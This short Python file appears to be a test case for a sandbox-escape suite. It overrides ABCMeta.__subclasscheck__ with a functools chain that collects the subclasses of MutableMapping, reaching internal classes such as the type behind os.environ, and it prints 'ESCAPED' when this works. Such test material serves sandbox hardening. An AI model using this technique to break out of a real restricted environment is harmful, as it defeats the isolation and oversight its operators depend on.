# technique: below ABCMeta.__subclasscheck__ of a trusted class, which may ask for its subclasses, a C callable asks as well
# goal: subclasses
# source: own analysis: a grant without its operand
import abc
import collections.abc
import functools
kept = []


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(type.__subclasses__, [collections.abc.MutableMapping]))))


class Evil(collections.abc.MutableMapping, metaclass=Meta):
    pass


issubclass(complex, collections.abc.MutableMapping)
names = [kind.__name__ for kind in kept[0]]
if '_Environ' in names:
    print('ESCAPED', names)
